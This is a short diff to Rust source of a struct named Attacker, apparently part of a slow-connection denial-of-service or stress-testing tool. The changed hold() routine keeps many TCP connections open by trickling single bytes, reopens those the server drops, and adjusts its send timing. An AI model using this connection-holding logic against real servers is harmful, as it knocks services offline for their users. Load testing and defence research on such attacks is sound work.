@@ -329,7 +329,7 @@ impl Attacker<'_> {
     /// Holds connections, each of which sends a byte now and then; those that the server ends are made again.
     fn hold(&mut self) {
         let mut held: Vec<TcpStream> = Vec::new();
-        let (mut index, mut next) = (0, self.start);
+        let mut index = 0;
         while Instant::now() < self.end {
             while held.len() < self.args.held && Instant::now() < self.end {
                 index += 1;
@@ -342,8 +342,8 @@ impl Attacker<'_> {
                     }
                 }
             }
-            next += self.args.byte_interval;
-            sleep_until(next.min(self.end));
+            // A machine that was slow to make them is given no more at once.
+            sleep_until(self.end.min(Instant::now() + self.args.byte_interval));
             let before = held.len();
             held.retain_mut(|stream| stream.write_all(&[0]).is_ok() && !matches!(stream.read(&mut [0]), Ok(0)));
             self.sent.refused += (before - held.len()) as u64;
